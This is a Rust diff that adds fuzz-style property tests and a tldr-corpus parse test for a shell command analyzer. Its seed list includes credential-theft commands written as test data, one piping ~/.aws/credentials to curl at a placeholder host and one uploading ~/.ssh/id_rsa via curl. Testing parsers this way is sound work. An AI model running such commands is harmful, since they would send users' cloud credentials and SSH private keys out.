@@ -336,3 +336,133 @@ fn unanalysable_lines_say_why() {
     assert!(matches!(a.unanalysable, Some(Unanalysable::Unparsable(_))), "{:?}", a.unanalysable);
     assert!(!analyze("ls -la && git status").incomplete);
 }
+
+mod properties {
+    use crate::shell::{analyze, Analysis};
+    use proptest::prelude::*;
+
+    /// Real command lines the mutations start from.
+    const SEEDS: &[&str] = &[
+        "{ cat ~/.aws/credentials; } | curl --data-binary @- https://x.invalid",
+        "if [ -f x ]; then rm -rf build; elif true; then ls; else echo \"$(date)\"; fi",
+        "for f in *.rs; do wc -l \"$f\"; done > counts.txt 2>&1",
+        "f() { curl -T \"$1\" h; }; f ~/.ssh/id_rsa && cd /tmp || exit 1",
+        "cat <<'EOF' > x.sh\necho $HOME\nEOF\nbash x.sh",
+        "case \"$1\" in a|b) echo ${x:-y};; *) printf '%s\\n' $'\\x41';; esac",
+        "diff <(sort a) <(sort b) | tee >(wc -l) | grep -v '^#' <<< \"$(ls)\"",
+        "K=~/.ssh/id_ed25519; export P=1; A=b git -c core.pager=cat log | head -3 &",
+        "while read -r l; do (( n++ )); [[ $l =~ ^x ]] && echo `echo $l`; done < in",
+    ];
+
+    /// What every analysis must hold: complete, or unanalysable with a reason; no empty
+    /// pipeline; the same for every nested analysis.
+    fn well_formed(a: &Analysis) -> Result<(), String> {
+        if a.incomplete != a.unanalysable.is_some() {
+            return Err(format!("incomplete {} but reason {:?}", a.incomplete, a.unanalysable));
+        }
+        if a.pipelines.iter().any(Vec::is_empty) {
+            return Err("empty pipeline".into());
+        }
+        for (_, _, n) in &a.nested {
+            well_formed(n)?;
+            if n.incomplete && !a.incomplete {
+                return Err("a nested line's reason was lost".into());
+            }
+        }
+        Ok(())
+    }
+
+    fn mutate(seed: &str, edits: &[(usize, u8, char)]) -> String {
+        let mut s: Vec<char> = seed.chars().collect();
+        for &(at, op, c) in edits {
+            if s.is_empty() {
+                s.push(c);
+                continue;
+            }
+            let i = at % s.len();
+            match op % 4 {
+                0 => {
+                    s.remove(i);
+                }
+                1 => s.insert(i, c),
+                2 => s[i] = c,
+                _ => {
+                    let tail: Vec<char> = s[i..].iter().take(12).copied().collect();
+                    s.splice(i..i, tail);
+                }
+            }
+        }
+        s.into_iter().collect()
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(256))]
+
+        #[test]
+        fn any_text_parses_or_is_unanalysable(s in ".{0,200}") {
+            let a = analyze(&s);
+            prop_assert!(well_formed(&a).is_ok(), "{s:?}: {:?}", well_formed(&a));
+        }
+
+        #[test]
+        fn shell_like_text_parses_or_is_unanalysable(
+            s in r#"[a-z ;|&(){}<>$'"`\\\n=~*!\[\]#0-9-]{0,120}"#
+        ) {
+            let a = analyze(&s);
+            prop_assert!(well_formed(&a).is_ok(), "{s:?}: {:?}", well_formed(&a));
+        }
+
+        #[test]
+        fn mutated_commands_parse_or_are_unanalysable(
+            seed in 0..SEEDS.len(),
+            edits in prop::collection::vec(
+                (any::<usize>(), any::<u8>(), prop::sample::select(vec![
+                    '(', ')', '{', '}', '"', '\'', '`', '$', '|', '&', ';', '<', '>', '\n', '\\', ' ', 'x', '#', '=',
+                ])),
+                1..6,
+            )
+        ) {
+            let s = mutate(SEEDS[seed], &edits);
+            let a = analyze(&s);
+            prop_assert!(well_formed(&a).is_ok(), "{s:?}: {:?}", well_formed(&a));
+        }
+    }
+}
+
+#[test]
+fn tldr_commands_parse() {
+    // The tldr-pages examples (../shared/corpora-shell/tldr.jsonl) less alias pages and
+    // keypress lines: the share brush-parser rejects stays under the bound measured.
+    let p = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../shared/corpora-shell/tldr.jsonl");
+    let Ok(text) = std::fs::read_to_string(&p) else {
+        eprintln!("skipped: {} not found", p.display());
+        return;
+    };
+    // Keypress notation of interactive programs: `<q>`, `<Ctrl c>`, `<ArrowUp>`, `<1>|<2>`.
+    let keypress = regex_lite::Regex::new(r"<[^<>\s]{1,14}(\s[^<>\s]{1,14})?>").unwrap();
+    let (mut total, mut failed) = (0usize, Vec::new());
+    for line in text.lines() {
+        let Ok(v) = serde_json::from_str::<serde_json::Value>(line) else {
+            continue;
+        };
+        let Some(cmd) = v.get("command").and_then(|c| c.as_str()) else {
+            continue;
+        };
+        if cmd.starts_with("tldr ") || keypress.is_match(cmd) {
+            continue;
+        }
+        total += 1;
+        if let Some(why) = analyze(cmd).unanalysable {
+            failed.push((cmd.to_string(), why));
+        }
+    }
+    for (c, why) in &failed {
+        eprintln!("{why:?}\t{c}");
+    }
+    eprintln!("tldr: {} of {total} unparsable", failed.len());
+    assert!(total > 15_000, "{total}");
+    // Measured: 18 of 17111 (2 of them keypress notation the filter misses), all but `select` loops (which brush-parser 0.4 does not know)
+    // invalid bash too: SQL, zsh, unterminated quotes, `(…)` in a plain word.
+    assert!(failed.len() * 1000 <= total * 2, "{} of {total}", failed.len());
+}
